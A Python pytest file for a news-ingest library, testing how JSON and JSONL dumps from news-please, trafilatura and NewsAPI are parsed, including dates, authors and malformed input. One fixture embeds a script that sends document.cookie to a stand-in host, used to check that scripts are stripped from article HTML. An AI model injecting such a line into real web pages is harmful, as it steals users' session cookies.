"""JSON / JSONL dumps with news-please and trafilatura field names."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from storyweave.config import IngestOptions
from storyweave.ingest import read_sources
from storyweave.types import Problem, RawDocument

OPTIONS = IngestOptions()

NEWS_PLEASE = {
    "title": "Neuer Bahnhof in Turmfalkenbucht eröffnet",
    "maintext": "Der neue Bahnhof wurde am Samstag eröffnet.\nDie Bürgermeisterin sprach von einem großen Tag.",
    "date_publish": "2030-03-02 14:05:00",
    "url": "https://falke-kurier.example/bahnhof",
    "source_domain": "falke-kurier.example",
    "language": "de",
    "authors": ["Jana Vogel", "Timo Brandt"],
}
TRAFILATURA = {
    "title": "Nueva estación en Bahía Cernícalo",
    "text": "La nueva estación abrió el sábado.\nLa alcaldesa habló de un gran día.",
    "date": "2030-03-02",
    "source_url": "https://cernicalo-diario.example/estacion",
    "sitename": "Diario Cernícalo",
    "language": "es-ES",
    "author": "Lucía Gómez; Pablo Ruiz",
}


def write(path: Path, content: str) -> str:
    path.write_text(content, encoding="utf-8")
    return str(path)


def test_jsonl_news_please_and_trafilatura_fields(tmp_path: Path) -> None:
    source = write(tmp_path / "dump.jsonl", json.dumps(NEWS_PLEASE) + "\n" + json.dumps(TRAFILATURA) + "\n")
    first, second = list(read_sources([source], OPTIONS))
    assert isinstance(first, RawDocument) and isinstance(second, RawDocument)
    assert first.origin == f"{source}:line 1" and second.origin == f"{source}:line 2"
    assert first.format == second.format == "json"
    assert first.title == NEWS_PLEASE["title"]
    assert first.text == NEWS_PLEASE["maintext"]
    assert first.published == datetime(2030, 3, 2, 14, 5, tzinfo=UTC)
    assert first.url == "https://falke-kurier.example/bahnhof"
    assert first.source == "falke-kurier.example"
    assert first.language == "de"
    assert first.authors == ["Jana Vogel", "Timo Brandt"]
    assert second.text == TRAFILATURA["text"]
    assert second.published == datetime(2030, 3, 2, tzinfo=UTC)
    assert second.url == "https://cernicalo-diario.example/estacion"
    assert second.source == "Diario Cernícalo"
    assert second.language == "es"
    assert second.authors == ["Lucía Gómez", "Pablo Ruiz"]


def test_json_array_and_single_object(tmp_path: Path) -> None:
    array = write(tmp_path / "a.json", json.dumps([NEWS_PLEASE, TRAFILATURA], ensure_ascii=False, indent=2))
    single = write(tmp_path / "b.json", json.dumps(TRAFILATURA, indent=2))
    items = list(read_sources([array, single], OPTIONS))
    assert [item.origin for item in items] == [f"{array}#item 1", f"{array}#item 2", single]
    assert all(isinstance(item, RawDocument) for item in items)


def test_jsonl_line_that_is_not_json(tmp_path: Path) -> None:
    lines = [json.dumps(NEWS_PLEASE), '{"title": "Cortado", "text": "sin cierre', json.dumps(TRAFILATURA)]
    source = write(tmp_path / "dump.jsonl", "\n".join(lines) + "\n")
    first, bad, third = list(read_sources([source], OPTIONS))
    assert isinstance(first, RawDocument) and isinstance(third, RawDocument)
    assert isinstance(bad, Problem)
    assert bad.origin == f"{source}:line 2"
    assert bad.message.startswith("not valid JSON (Unterminated string")
    assert third.origin == f"{source}:line 3"


def test_object_without_text_field(tmp_path: Path) -> None:
    lines = [json.dumps({"title": "Só título", "url": "https://x.example/1"}), json.dumps(TRAFILATURA), "[1, 2]"]
    source = write(tmp_path / "dump.jsonl", "\n".join(lines))
    missing, ok, not_object = list(read_sources([source], OPTIONS))
    assert isinstance(missing, Problem) and missing.origin == f"{source}:line 1"
    assert missing.message.startswith("no text field (one of maintext, text, raw_text")
    assert isinstance(ok, RawDocument)
    assert isinstance(not_object, Problem) and not_object.message == "expected a JSON object, found list"


def test_malformed_single_json_document(tmp_path: Path) -> None:
    source = write(tmp_path / "broken.json", '{\n  "title": "x",\n  "text": "y"\n')
    [problem] = list(read_sources([source], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.origin == source
    assert problem.message.startswith("not valid JSON:")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2030-03-02T14:05:00Z", datetime(2030, 3, 2, 14, 5, tzinfo=UTC)),
        ("2030-03-02T14:05:00+01:00", datetime(2030, 3, 2, 14, 5, tzinfo=timezone(timedelta(hours=1)))),
        ("Sat, 02 Mar 2030 14:05:00 +0000", datetime(2030, 3, 2, 14, 5, tzinfo=UTC)),
        ("2 de março de 2030", datetime(2030, 3, 2, tzinfo=UTC)),
        ("2 mars 2030", datetime(2030, 3, 2, tzinfo=UTC)),
        ("Sat Mar  2 14:05:00 2030", datetime(2030, 3, 2, 14, 5, tzinfo=UTC)),  # str() of a newspaper3k date
        (1898690700, datetime(2030, 3, 2, 14, 5, tzinfo=UTC)),
        (1898690700000, datetime(2030, 3, 2, 14, 5, tzinfo=UTC)),
        ("not a date at all", None),
    ],
)
def test_dates_in_common_formats(tmp_path: Path, value: object, expected: datetime | None) -> None:
    record = {"title": "T", "text": "Corps de l’article.", "date_publish": value}
    source = write(tmp_path / "d.json", json.dumps(record))
    [doc] = list(read_sources([source], OPTIONS))
    assert isinstance(doc, RawDocument)
    assert doc.published == expected
    if expected is not None:
        assert doc.published is not None and doc.published.tzinfo is not None


@pytest.mark.parametrize("field", ["publish_date", "publishedAt", "pubDate", "published_at", "publication_date"])
def test_publication_date_under_other_scrapers_names(tmp_path: Path, field: str) -> None:
    record = {"title": "T", "text": "Corps de l’article.", field: "2030-03-02T14:05:00Z"}
    [doc] = list(read_sources([write(tmp_path / "d.json", json.dumps(record))], OPTIONS))
    assert isinstance(doc, RawDocument)
    assert doc.published == datetime(2030, 3, 2, 14, 5, tzinfo=UTC)


def test_download_date_only_when_no_publication_date(tmp_path: Path) -> None:
    record = {"text": "Corps.", "date_download": "2030-03-05T00:00:00Z", "publish_date": "2030-03-02T14:05:00Z"}
    [doc] = list(read_sources([write(tmp_path / "d.json", json.dumps(record))], OPTIONS))
    assert isinstance(doc, RawDocument) and doc.published == datetime(2030, 3, 2, 14, 5, tzinfo=UTC)


def test_newsapi_article_shape(tmp_path: Path) -> None:
    record = {
        "source": {"id": None, "name": "Gazeta Północna"},
        "author": "Anna Nowak",
        "title": "Prom wrócił do portu",
        "description": "Krótko.",
        "url": "https://gazeta.example/prom",
        "publishedAt": "2030-03-02T14:05:00Z",
        "content": "Prom wrócił do portu w Gdyni po awarii silnika.",
    }
    [doc] = list(read_sources([write(tmp_path / "n.json", json.dumps(record))], OPTIONS))
    assert isinstance(doc, RawDocument)
    assert doc.source == "Gazeta Północna"
    assert doc.published == datetime(2030, 3, 2, 14, 5, tzinfo=UTC)
    assert doc.text.startswith("Prom wrócił") and doc.url == "https://gazeta.example/prom"


def test_html_body_is_converted_and_scripts_dropped(tmp_path: Path) -> None:
    record = {
        "title": "Porto reabre",
        "maintext": "<p>O porto reabriu.</p><script>fetch('//evil.invalid?c='+document.cookie)</script><p>Fim.</p>",
    }
    source = write(tmp_path / "h.json", json.dumps(record))
    [doc] = list(read_sources([source], OPTIONS))
    assert isinstance(doc, RawDocument)
    assert doc.text == "O porto reabriu.\nFim."


def test_body_that_is_only_a_script_tag(tmp_path: Path) -> None:
    lines = [
        json.dumps({"title": "Nada", "text": "<script>alert('x')</script>"}),
        json.dumps(NEWS_PLEASE),
    ]
    source = write(tmp_path / "s.jsonl", "\n".join(lines))
    bad, good = list(read_sources([source], OPTIONS))
    assert isinstance(bad, Problem)
    assert str(bad) == f"{source}:line 1: no article text (only markup/script)"
    assert isinstance(good, RawDocument)


def test_jsonl_sniffed_without_extension(tmp_path: Path) -> None:
    source = write(tmp_path / "export", json.dumps(NEWS_PLEASE) + "\n" + json.dumps(TRAFILATURA))
    items = list(read_sources([source], OPTIONS))
    assert [item.format for item in items if isinstance(item, RawDocument)] == ["json", "json"]


def test_undated_items_read_their_year_beside_dated_ones(tmp_path: Path) -> None:
    # An archive of older reports read today: the yearless dateline of an undated one takes the year of the dated
    # report read just before it from the same file, not the year of the clock.
    from storyweave.config import CleanOptions
    from storyweave.pipeline import prepare_article
    from storyweave.types import Article

    lines = [
        json.dumps(
            {"url": "https://a.example/1", "title": "Pier shut", "text": "The pier shut.", "date": "2019-03-10"}
        ),
        json.dumps(
            {"url": "https://a.example/2", "title": "Pier", "text": "VALDEMORA, March 2 (Xinhua) -- The pier reopened."}
        ),
        "{not json",
        json.dumps({"url": "https://a.example/3", "title": "Pier", "text": "The pier reopened again."}),
    ]
    first = write(tmp_path / "a.jsonl", json.dumps({"title": "Only", "text": "VALDEMORA, March 2 (Xinhua) -- Open."}))
    items = list(read_sources([first, write(tmp_path / "b.jsonl", "\n".join(lines))], OPTIONS))
    alone, dated, undated, problem, plain = items
    assert isinstance(alone, RawDocument) and alone.context_date is None  # nothing dated before it in its input
    assert isinstance(dated, RawDocument) and dated.context_date is None and dated.published is not None
    assert isinstance(problem, Problem)
    for doc in (undated, plain):
        assert isinstance(doc, RawDocument) and doc.context_date == dated.published
    article = prepare_article(undated, CleanOptions())
    assert isinstance(article, Article)
    assert article.published == datetime(2019, 3, 2, tzinfo=UTC) and article.published_inferred
